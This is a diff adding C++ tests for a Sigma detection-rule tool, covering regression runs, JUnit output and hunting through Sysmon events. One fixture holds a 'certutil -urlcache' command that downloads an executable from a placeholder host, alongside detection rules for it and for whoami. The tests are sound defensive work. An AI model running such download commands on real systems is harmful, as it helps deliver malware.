@@ -17,6 +17,8 @@
 
 #include <random>
 
+#include <map>
+
 #include <nlohmann/json.hpp>
 
 namespace {
@@ -482,6 +484,91 @@ TEST(BuildCommand, SplunkAppSearchesExpandTheAppsMacros) {
   EXPECT_EQ(rules[0]["metadata"]["expanded search"], "index=sysmon EventCode=1 \n| where process_name=\"7z.exe\"");
   EXPECT_EQ(rules[0]["items"], nlohmann::json::parse(R"([{"kind": "macro", "name": "sysmon"}])"));
   EXPECT_EQ(rules[0]["indicators"].size(), 2u);
+}
+
+// SigmaHQ's regression tests: every rule fires on its EVTX recording and on
+// the JSON rendering beside it, and match_count holds, except where the
+// recording holds more events the rule's own logic matches than match_count
+// says (listed: each matched event is a distinct file or registry write the
+// rule names).
+TEST(TestCommand, SigmaRegressionTestsPassOnEvtxAndJson) {
+  const auto regression = shared_dir() / "events" / "sigma-regression" / "regression_data";
+  if (!std::filesystem::exists(regression)) GTEST_SKIP() << "no shared regression data at " << regression;
+  const std::map<std::string, std::string> known = {
+      {"8fbf3271-1ef6-4e94-8210-03c2317947f6", "matched 3 events, expected 1"},  // procdump.exe, procdump64.exe, procdump64a.exe
+      {"45e112d0-7759-4c2a-aa36-9f8fb79d3393", "matched 3 events, expected 1"},  // three ZoneMap\Domains values
+      {"c7dcacd0-cc59-4004-b0a4-1d6cdebe6f3e", "matched 2 events, expected 1"},  // AutoShareServer and AutoShareWks
+  };
+  Invocation run = ruledex({"test", (shared_dir() / "corpus" / "sigma").string(), "--regression", regression.string(),
+                            "--format", "json"}, false, 600);
+  ASSERT_TRUE(run.exit_code == 0 || run.exit_code == 1) << run.err;
+  nlohmann::json results = nlohmann::json::parse(run.out);
+  size_t evtx = 0, json = 0;
+  for (const auto& r : results) {
+    const std::string events = r["events"];
+    (events.ends_with(".evtx") ? evtx : json) += 1;
+    EXPECT_TRUE(r["fired"].get<bool>()) << r["rule_id"] << " on " << events << ": " << r["failure"];
+    if (r["passed"].get<bool>()) continue;
+    auto reason = known.find(r["rule_id"]);
+    ASSERT_NE(reason, known.end()) << r["rule_id"] << " on " << events << ": " << r["failure"];
+    EXPECT_EQ(r["failure"], reason->second) << r["rule_id"];
+  }
+  EXPECT_GE(evtx, 100u);
+  EXPECT_EQ(evtx, json);
+}
+
+TEST(TestCommand, ExpectationsAndJUnit) {
+  auto rule = temp_file("whoami.yml", "title: Whoami\nid: 11111111-2222-3333-4444-555555555555\nlogsource:\n"
+                                      "  product: windows\n  category: process_creation\ndetection:\n"
+                                      "  selection:\n    Image|endswith: '\\whoami.exe'\n  filter:\n"
+                                      "    User: 'NT AUTHORITY\\SYSTEM'\n  condition: selection and not filter\nlevel: low\n");
+  auto event = [](std::string image, std::string user, int record) {
+    return "{\"Event\": {\"System\": {\"Channel\": \"Microsoft-Windows-Sysmon/Operational\", \"EventID\": 1, "
+           "\"EventRecordID\": " + std::to_string(record) + "}, \"EventData\": {\"Image\": \"" + image +
+           "\", \"User\": \"" + user + "\"}}}\n";
+  };
+  auto events = temp_file("events.json", event("C:\\\\Windows\\\\System32\\\\whoami.exe", "bob", 1) +
+                                             event("C:\\\\Windows\\\\System32\\\\whoami.exe", "NT AUTHORITY\\\\SYSTEM", 2) +
+                                             event("C:\\\\Windows\\\\System32\\\\calc.exe", "bob", 3));
+  auto expect = [&](int count) {
+    return temp_file("info.yml", "rule_metadata:\n  - id: 11111111-2222-3333-4444-555555555555\n"
+                                 "regression_tests_info:\n  - name: t\n    type: evtx\n    match_count: " +
+                                     std::to_string(count) + "\n    path: events.json\n");
+  };
+  Invocation pass = ruledex({"test", rule.string(), "--events", events.string(), "--expect", expect(1).string()});
+  EXPECT_EQ(pass.exit_code, 0) << pass.out << pass.err;
+  EXPECT_NE(pass.out.find("PASS fired, 1 event"), std::string::npos) << pass.out;
+  EXPECT_NE(pass.out.find("record 1"), std::string::npos) << pass.out;
+  Invocation fail = ruledex({"test", rule.string(), "--events", events.string(), "--expect", expect(2).string(), "--format", "junit"});
+  EXPECT_EQ(fail.exit_code, 1);
+  EXPECT_NE(fail.out.find("<testsuite name=\"ruledex test\" tests=\"1\" failures=\"1\">"), std::string::npos) << fail.out;
+  EXPECT_NE(fail.out.find("failure message=\"matched 1 events, expected 2\""), std::string::npos) << fail.out;
+}
+
+TEST(HuntCommand, DetectionsAsJsonLinesAndALayer) {
+  auto rule = temp_file("hunt-rule.yml", "title: Certutil Download\nid: aaaaaaaa-2222-3333-4444-555555555555\n"
+                                         "tags:\n  - attack.t1105\nlogsource:\n  product: windows\n  category: process_creation\n"
+                                         "detection:\n  selection:\n    CommandLine|contains|all:\n      - 'certutil'\n"
+                                         "      - 'urlcache'\n  condition: selection\nlevel: high\n");
+  auto events = temp_file("hunt.jsonl",
+                          "{\"Event\": {\"System\": {\"Channel\": \"Microsoft-Windows-Sysmon/Operational\", \"EventID\": 1}, "
+                          "\"EventData\": {\"CommandLine\": \"certutil -urlcache -f http://x/a.exe\"}}}\n"
+                          "not json\n"
+                          "{\"Event\": {\"System\": {\"Channel\": \"Microsoft-Windows-Sysmon/Operational\", \"EventID\": 1}, "
+                          "\"EventData\": {\"CommandLine\": \"certutil -decode a b\"}}}\n");
+  auto layer = std::filesystem::temp_directory_path() / "ruledex-cli-test" / "hunt-layer.json";
+  Invocation run = ruledex({"hunt", rule.string(), "--events", events.string(), "--layer", layer.string()});
+  EXPECT_EQ(run.exit_code, 0) << run.err;
+  auto detection = nlohmann::json::parse(run.out.substr(0, run.out.find('\n')));
+  EXPECT_EQ(run.out.find('\n') + 1, run.out.size()) << "one detection: " << run.out;
+  EXPECT_EQ(detection["rule_id"], "aaaaaaaa-2222-3333-4444-555555555555");
+  EXPECT_EQ(detection["level"], "high");
+  EXPECT_EQ(detection["events"][0]["line"], 1);
+  EXPECT_EQ(detection["fields"]["CommandLine"], "certutil -urlcache -f http://x/a.exe");
+  EXPECT_NE(run.err.find("hunt.jsonl:2"), std::string::npos) << "the bad line is reported: " << run.err;
+  EXPECT_NE(run.err.find("1 fired, 1 detections"), std::string::npos) << run.err;
+  auto layer_json = nlohmann::json::parse(read_all(layer));
+  EXPECT_EQ(layer_json["techniques"][0]["techniqueID"], "T1105");
 }
 
 }  // namespace
